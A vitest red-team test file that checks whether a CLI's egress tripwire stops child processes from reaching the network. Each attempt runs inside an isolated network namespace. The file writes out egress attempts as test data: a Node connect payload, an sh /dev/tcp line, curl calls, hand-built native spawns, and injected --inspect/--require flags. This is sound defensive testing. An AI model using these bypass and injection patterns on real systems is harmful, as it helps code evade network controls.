import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import {
  attemptsOf,
  repoUrl,
  startNetns,
  totalArrivals,
  tripwireAsCli,
  type Netns,
} from './support/netns'

// Red team, issue 9 road 8: a child process has the network of its own. Each attack runs in a
// fresh Node process installed exactly as the CLI is (src/cli/tripwireFirst.ts), inside a network
// namespace whose non-loopback listener counts what arrives. The payload of every launch is a
// program that would connect to that listener; zero arrivals and a refusal for every road.

const payload = `require('net').connect(7000, process.env.TARGET_HOST).on('connect', function () { this.end('RIFF....WAVE') })`

let netns: Netns
beforeAll(async () => {
  netns = await startNetns()
})
afterAll(async () => {
  await netns.close()
})

describe('red team: child processes (tripwire as the CLI installs it)', () => {
  it('control: without the tripwire, a spawned node, curl and sh each reach the listener', async () => {
    const result = await netns.run({
      script: `
        import { spawnSync } from 'node:child_process'
        const node = spawnSync(process.execPath, ['-e', ${JSON.stringify(payload)}], { stdio: 'inherit' })
        const curl = spawnSync('curl', ['-s', '-m', '3', 'http://' + process.env.TARGET_HOST + ':7000/'])
        const sh = spawnSync('sh', ['-c', 'exec 3<>/dev/tcp/$TARGET_HOST/7000 || curl -s -m 3 http://$TARGET_HOST:7000/'])
        console.log('ran', node.status, curl.status, sh.status)
      `,
    })
    expect(result.stdout, result.stderr).toContain('ran')
    expect(result.arrivals.tcpConnections).toBeGreaterThanOrEqual(2)
  })

  it('refuses curl, sh and node through every child_process function, shell forms included, and nothing arrives', async () => {
    const url = `http://198.18.0.1:7000/`
    const result = await netns.run({
      script: `${tripwireAsCli}
        import childProcess, { ChildProcess } from 'node:child_process'
        import { createRequire } from 'node:module'
        const require = createRequire(import.meta.url)
        const cjs = require('child_process')
        const node = process.execPath
        const code = ${JSON.stringify(payload)}
        const url = ${JSON.stringify(url)}
        await attempt('spawn curl', () => childProcess.spawn('curl', [url]))
        await attempt('spawn node -e', () => childProcess.spawn(node, ['-e', code]))
        await attempt('spawn with shell: true', () => childProcess.spawn('curl ' + url, { shell: true }))
        await attempt('spawn sh -c', () => childProcess.spawn('sh', ['-c', 'curl ' + url]))
        await attempt('spawnSync curl', () => childProcess.spawnSync('curl', [url]))
        await attempt('spawnSync with shell: true', () => childProcess.spawnSync('curl ' + url, { shell: true }))
        await attempt('exec', () => childProcess.exec('curl ' + url))
        await attempt('execSync', () => childProcess.execSync('curl ' + url))
        await attempt('execFile', () => childProcess.execFile('curl', [url]))
        await attempt('execFile with shell: true', () => childProcess.execFile('curl', [url], { shell: true }))
        await attempt('execFileSync', () => childProcess.execFileSync(node, ['-e', code]))
        await attempt('fork', () => childProcess.fork('-e', [], { execArgv: ['-e', code] }))
        await attempt('require("child_process").spawn (CommonJS)', () => cjs.spawn('curl', [url]))
        await attempt('new ChildProcess().spawn()', () => new ChildProcess().spawn({ file: 'curl', args: ['curl', url], stdio: 'pipe' }))
        await attempt('the native handle of a hand-made ChildProcess', () => {
          const handle = new ChildProcess()._handle
          const status = handle.spawn({ file: 'curl', args: ['curl', url], stdio: [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }], envPairs: [] })
          if (status !== 0) throw Object.assign(new Error('spawn status ' + status), { code: 'status' })
        })
        await attempt('cluster.fork', async () => {
          const cluster = (await import('node:cluster')).default
          cluster.setupPrimary({ exec: '-e', execArgv: ['-e', code] })
          cluster.fork()
        })
        await attempt('restore the original spawn', () => {
          childProcess.spawn = () => undefined
          if (childProcess.spawn() === undefined) throw new Error('replaced')
          throw Object.assign(new Error('kept'), { code: 'kept' })
        })
        await attempt('process.binding("spawn_sync")', () => process.binding('spawn_sync'))
        await attempt('process.binding("process_wrap")', () => process.binding('process_wrap'))
        await linger(500)
      `,
    })
    const attempts = attemptsOf(result.stdout)
    expect(attempts.length, result.stderr).toBe(19)
    for (const attempt of attempts) {
      expect(attempt, attempt.name).toMatchObject({ result: 'refused' })
      if (attempt.name !== 'restore the original spawn') {
        expect(attempt.trips, attempt.name).toBeGreaterThan(0)
      }
    }
    expect(totalArrivals(result.arrivals)).toBe(0)
  })

  it("the engine's own launch still runs, and only with the arguments the launcher built", async () => {
    const result = await netns.run({
      script: `${tripwireAsCli}
        import { launchEngineProcess } from ${JSON.stringify(repoUrl('src/core/egress/childProcessGuard.ts'))}
        const binaries = { ffmpeg: '/usr/bin/ffmpeg', ffprobe: '/usr/bin/ffprobe', source: 'path' }
        const probe = launchEngineProcess({ kind: 'ffprobe', binaries, input: '/nonexistent/file.wav' })
        const code = await new Promise((done) => probe.once('close', done))
        console.log('ffprobe ran', code)
        await attempt('ffmpeg that is really curl', () => launchEngineProcess({ kind: 'ffmpeg', binaries: { ...binaries, ffmpeg: '/usr/bin/curl' }, input: '/x.wav', layout: 'mono' }))
        await attempt('a relative input (could be read as an option)', () => launchEngineProcess({ kind: 'ffprobe', binaries, input: '-version' }))
      `,
    })
    expect(result.stdout, result.stderr).toMatch(/ffprobe ran 1/)
    const attempts = attemptsOf(result.stdout)
    expect(attempts).toHaveLength(2)
    for (const attempt of attempts)
      expect(attempt, attempt.name).toMatchObject({ result: 'refused', code: 'tripwire' })
    expect(totalArrivals(result.arrivals)).toBe(0)
  })

  it("the engine's Node processes (whisper worker, wasm decoder) start only with the engine's flags: a caller's --inspect, --require or --import is refused", async () => {
    const result = await netns.run({
      script: `${tripwireAsCli}
        import childProcess from 'node:child_process'
        import { readFileSync } from 'node:fs'
        import { launchEngineProcess } from ${JSON.stringify(repoUrl('src/core/egress/childProcessGuard.ts'))}
        import { osNetworkWall } from ${JSON.stringify(repoUrl('src/core/egress/osNetworkWall.ts'))}
        import { whisperWorkerEntry } from ${JSON.stringify(repoUrl('src/core/transcribe/whisperWorkerEntry.ts'))}
        import { wasmDecoderEntry } from ${JSON.stringify(repoUrl('src/core/media/wasmDecoderEntry.ts'))}
        const wall = osNetworkWall().prefix
        const cmdline = (pid) => readFileSync('/proc/' + pid + '/cmdline', 'utf8').split('\\0').filter(Boolean)
        const settled = async (child) => {
          // The wrapper execs Node in place: wait until the command line is Node's.
          for (let i = 0; i < 200 && cmdline(child.pid)[0] !== process.execPath; i++) await new Promise((r) => setTimeout(r, 10))
          const seen = cmdline(child.pid)
          child.kill('SIGKILL')
          return seen
        }
        // Options a caller slips into the launch are not read: the command line is the engine's.
        const worker = await settled(launchEngineProcess({ kind: 'whisper-worker', execArgv: ['--inspect=0.0.0.0:9229'], args: ['--require', '/tmp/x.cjs'] }))
        console.log('WORKER ' + JSON.stringify(worker))
        const decoder = await settled(launchEngineProcess({ kind: 'wasm-decoder', task: { task: 'probe', input: '/nonexistent.wav', execArgv: ['--inspect'] }, execArgv: ['--inspect'] }))
        console.log('DECODER ' + JSON.stringify(decoder))
        const whisper = whisperWorkerEntry()
        const wasm = wasmDecoderEntry()
        for (const [name, extra] of [['--inspect', ['--inspect=0.0.0.0:9229']], ['--require', ['--require', '/tmp/x.cjs']], ['--import', ['--import', 'data:text/javascript,0']]]) {
          await attempt('fork of the whisper worker with ' + name, () => childProcess.fork(whisper.path, [], { execArgv: [...whisper.execArgv, ...extra] }))
          await attempt('native spawn of the walled whisper worker with ' + name, () => {
            const args = [...wall.slice(1), process.execPath, '--expose-gc', ...extra, ...whisper.execArgv, whisper.path]
            const child = new childProcess.ChildProcess()
            child.spawn({ file: wall[0], args: [wall[0], ...args], stdio: 'ignore' })
            return child
          })
          await attempt('native spawn of the walled wasm decoder with ' + name, () => {
            const args = [...wall.slice(1), process.execPath, ...extra, ...wasm.execArgv, wasm.path, '--task=probe', '--input=/x.wav']
            const child = new childProcess.ChildProcess()
            child.spawn({ file: wall[0], args: [wall[0], ...args], stdio: 'ignore' })
            return child
          })
        }
        await attempt('a wasm decoder task with a relative input', () => launchEngineProcess({ kind: 'wasm-decoder', task: { task: 'probe', input: '--inspect' } }))
      `,
    })
    const worker = JSON.parse(/^WORKER (.*)$/m.exec(result.stdout)?.[1] ?? 'null') as
      string[] | null
    const decoder = JSON.parse(/^DECODER (.*)$/m.exec(result.stdout)?.[1] ?? 'null') as
      string[] | null
    expect(worker, result.stderr).not.toBeNull()
    expect(decoder, result.stderr).not.toBeNull()
    for (const argv of [worker ?? [], decoder ?? []]) {
      expect(
        argv.filter((arg) => /^--(inspect|require|import=|expose-internals)/.test(arg)),
      ).toEqual([])
      expect(argv).not.toContain('/tmp/x.cjs')
    }
    // Exactly the engine's flags: the measured --expose-gc, then tsx's loader (from sources).
    expect(worker?.slice(1, 4)).toEqual(['--expose-gc', '--import', expect.stringContaining('tsx')])
    expect(decoder?.slice(1, 3)).toEqual(['--import', expect.stringContaining('tsx')])
    expect(decoder?.slice(-2)).toEqual(['--task=probe', '--input=/nonexistent.wav'])
    const attempts = attemptsOf(result.stdout)
    expect(attempts).toHaveLength(10)
    for (const attempt of attempts) {
      expect(attempt, attempt.name).toMatchObject({ result: 'refused', code: 'tripwire' })
      expect(attempt.trips, attempt.name).toBeGreaterThan(0)
    }
    expect(totalArrivals(result.arrivals)).toBe(0)
  })
})
